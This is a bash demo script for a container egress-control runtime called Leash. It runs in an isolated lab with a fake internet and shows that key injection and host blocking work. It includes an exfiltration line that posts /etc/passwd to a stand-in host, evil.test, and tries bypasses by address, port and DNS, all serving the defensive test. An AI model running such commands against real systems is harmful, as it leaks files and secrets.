#!/usr/bin/env bash
# The first command: builds Leash and shows what it does, in a private Docker engine with a private internet.
#
#   sudo examples/try.sh            the tour (first time some minutes: packages, build, image; then seconds)
#   sudo examples/try.sh --shell    the same, then a shell inside a leashed container
#
# Nothing of this machine's own engine, network or iptables is touched. At the end, and on Ctrl-C, everything that was
# started is stopped and removed; packages, the build and the cached image stay.
set -euo pipefail
export LEASH_LAB=${LEASH_LAB:-leash-try} LEASH_LAB_POLICY=examples/policies/agent.yaml
here=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
. "$here/tests/lib/common.sh"
. "$LAB_LIB/engine.sh"
need_root
cd "$LAB_SOURCE"

bold='' dim='' red='' green='' plain=''
if [ -t 1 ]; then bold=$'\e[1m' dim=$'\e[2m' red=$'\e[31m' green=$'\e[32m' plain=$'\e[0m'; fi
step=0 agent='' failed=0

title() { step=$((step + 1)); printf '\n%s%d. %s%s\n' "$bold" "$step" "$1" "$plain"; }
look() { printf '   %sLook at:%s %s\n' "$green" "$plain" "$*"; }
width=$(stty size 2>/dev/null </dev/tty | cut -d' ' -f2 || true)
[ "${width:-0}" -ge 60 ] || width=120
indent() { fold -s -w $((width - 5)) | sed 's/^/   | /'; }
table() { cut -c1-$((width - 5)) | sed 's/^/   | /'; }

# inside COMMAND: a shell command in the leashed container, shown with what it prints, kept in $shown.
inside() {
  printf '   %s$ %s%s\n' "$dim" "$1" "$plain"
  shown=$(engine_docker exec -i "$agent" sh -c "$1" 2>&1) || true
  printf '%s\n' "$shown" | indent
}
# expect TEXT WHAT: the tour is a promise; a step that does not show it makes the tour fail.
expect() {
  case $shown in *"$1"*) ;; *) failed=1; printf '   %sNOT AS PROMISED:%s %s\n' "$red" "$plain" "$2" ;; esac
}
expect_not() {
  case $shown in *"$1"*) failed=1; printf '   %sNOT AS PROMISED:%s %s\n' "$red" "$plain" "$2" ;; esac
}
# logged FILE TEXT: the last line of one of the container's logs that has TEXT.
logged() {
  local line='' tick
  for ((tick = 0; tick < 60; tick++)); do
    line=$(grep -F -- "$2" "/var/lib/leash/$agent/$1" 2>/dev/null | tail -1 || true)
    [ -z "$line" ] || break
    sleep 0.05
  done
  shown=$line
  printf '   %s%s:%s\n' "$dim" "$1" "$plain"
  printf '%s\n' "${line:-(no such line)}" | "$LAB_PYTHON" -c '
import json, sys
for line in sys.stdin:
    try:
        fields = json.loads(line)
    except ValueError:
        print(line, end="")
        continue
    print("  ".join(f"{k}={fields[k]}" for k in sys.argv[1:] if fields.get(k) not in (None, "", [])))' \
    state method host port path status reason layer rule secrets bytes_up bytes_down req_body_preview | indent
}
# the origin's own record of the last request
origin_saw() { tail -1 "$LEASH_LAB_RUN/records/origin.jsonl"; }

finish() {
  trap - EXIT INT TERM
  "$LAB_LIB/lab.sh" down || true
  for id in ${all_containers:-}; do rm -rf "/var/lib/leash/$id"; done
  printf '\n'
  note "the private engine, its network and its containers are gone"
}
all_containers=''

say "${bold}Leash: a container that cannot talk past its proxy${plain}"
note "this tour takes a few minutes the first time (packages, build, image), seconds after that"
say ""
say "${bold}Packages${plain}"
"$LAB_LIB/packages.sh" build lab
say "${bold}Build${plain} (preset release, into build/release)"
log=$(mktemp)
cmake --preset release >"$log" 2>&1 || { cat "$log"; rm -f "$log"; die "cmake failed"; }
rm -f "$log"
cmake --build --preset release -j"$(nproc)" --target leash-runtime leash-shim leash-proxy leash | awk '/^\[/ { n++; if (n % 20 == 1) { print "   ... " $0; fflush() } next } { print }'
say "${bold}Private engine and internet${plain}"
if docker info >/dev/null 2>&1; then
  note "an engine of yours is running: it is left alone. To add Leash to it, see examples/daemon.json"
fi
note "starting dockerd in a network namespace of its own (socket $LEASH_LAB_RUN/docker.sock)"
note "and beside it an internet: a resolver, a fake api.anthropic.com that echoes what it gets, evil.test, and an answer from any other address"
trap finish EXIT
trap 'exit 130' INT TERM
"$LAB_LIB/lab.sh" up demo

real_key=sk-ant-api03-this-is-the-real-key-of-the-demo-0123456789abcdefghijklmnopqrstuvwxyz
title "An unmodified image, under the leash"
note "\$ docker run -d --runtime=leash -e ANTHROPIC_API_KEY=sk-ant-api03-this-is-the-real... leash/demo sleep infinity"
agent=$(engine_docker run -d --runtime leash --name agent --hostname agent -e "ANTHROPIC_API_KEY=$real_key" leash/demo sleep infinity)
all_containers=$agent
note "container ${agent:0:12}; policy: $LEASH_LAB_POLICY"
inside 'curl --version | head -1; python3 --version; node --version'

title "An allowed request passes, decrypted on the way"
inside 'curl -sS https://api.anthropic.com/v1/messages -H "content-type: application/json" -H "x-api-key: $ANTHROPIC_API_KEY" -d "{\"model\":\"demo\",\"prompt\":\"hello\"}"'
expect '"method": "POST"' "the fake API did not answer"
logged flows.jsonl /v1/messages
expect inspected "no decrypted line in flows.jsonl"
look "state=inspected, and the body's first bytes: TLS was opened and closed again on the way"

title "The container's environment is worth nothing to a thief"
inside 'env | grep ANTHROPIC'
expect 'sk-ant-' "no placeholder in the environment"
expect_not "$real_key" "the real key is visible in the container"
shown=$(origin_saw)
printf '   %swhat the fake API received:%s\n' "$dim" "$plain"
printf '%s\n' "$shown" | "$LAB_PYTHON" -c 'import json, sys; print("x-api-key:", dict((k.lower(), v) for k, v in json.load(sys.stdin)["headers"]).get("x-api-key"))' | indent
expect "$real_key" "the fake API did not receive the real key"
look "a placeholder inside, the real key at the API: the proxy puts it in, for that host only (and takes it out of the echo above)"

title "Python and Node trust the container's own authority too"
inside 'python3 -c "import urllib.request as u; print(u.urlopen(\"https://api.anthropic.com/from-python\").status)"'
expect 200 "python was refused"
inside 'node -e "require(\"https\").get(\"https://api.anthropic.com/from-node\", r => console.log(r.statusCode))"'
expect 200 "node was refused"
printf '   %s$ docker diff agent%s\n' "$dim" "$plain"
shown=$(engine_docker diff agent)
printf '%s\n' "${shown:-(nothing)}" | indent
expect_not cert "the image was changed"
look "no certificate in docker diff: the image is as it was"

title "A forbidden host is refused in words that a program understands"
inside 'curl -sS --resolve evil.test:443:203.0.113.9 https://evil.test/steal -d @/etc/passwd -w "\nstatus %{http_code}\n"'
expect leash_blocked "the forbidden host was not refused"
expect 'status 403' "no 403"
logged blocked.jsonl evil.test
look "403 with a typed body, and the line in blocked.jsonl"
inside 'curl -sS https://evil.test/'
expect 'Could not resolve' "the forbidden name was resolved"
look "without --resolve the name does not even resolve"

title "Ways around: by address, other ports, UDP, another DNS server"
inside 'curl -sSk -m 5 https://203.0.113.9/ -w "%{http_code}\n"; curl -sS -m 5 http://203.0.113.9:8080/'
printf '   %s$ python3 - <examples/probe.py%s\n' "$dim" "$plain"
shown=$(engine_docker exec -i agent python3 - <examples/probe.py 2>&1 || true)
printf '%s\n' "$shown" | indent
expect_not LEAKED "something got out"
evil=$(grep -cE '"dst": "(203.0.113.9|8.8.8.8)"' "$LEASH_LAB_RUN/records/wire.jsonl" || true)
shown="frames to 203.0.113.9 or 8.8.8.8 on the wire: $evil"
note "$shown"
[ "$evil" = 0 ] || { failed=1; printf '   %sNOT AS PROMISED:%s something got out\n' "$red" "$plain"; }
look "refused at once (no time-outs), and not a single frame on the bridge"

title "What the operator sees"
printf '   %s$ leash ps%s\n' "$dim" "$plain"
"$LEASH_BIN/leash" ps 2>&1 | table || true
printf '   %s$ leash logs agent%s\n' "$dim" "$plain"
{ "$LEASH_BIN/leash" logs "${agent:0:12}" 2>&1 || true; } | tail -12 | table
look "every connection in one of three states: inspected, passed, blocked"

title "The same image under plain runc, to see the difference"
note "\$ docker run --rm --runtime=runc -e ANTHROPIC_API_KEY=... leash/demo"
shown=$(engine_docker run --rm --runtime runc -e "ANTHROPIC_API_KEY=$real_key" leash/demo sh -c '
  env | grep ANTHROPIC
  curl -sSk -m 5 https://evil.test/steal -d @/etc/passwd -w "\nstatus %{http_code}\n" | cut -c1-100' 2>&1 || true)
printf '%s\n' "$shown" | indent
expect "$real_key" "runc hides the key?"
expect 'status 200' "runc blocks the evil host?"
look "the real key in the environment, and /etc/passwd at the evil host"

if [ "${1:-}" = --shell ]; then
  title "A shell in the leashed container (exit ends the tour)"
  engine_docker exec -it agent bash || true
fi

say ""
if [ $failed = 0 ]; then say "${green}Everything as promised.${plain} Next: README.md, and examples/daemon.json for your own engine."; fi
exit $failed
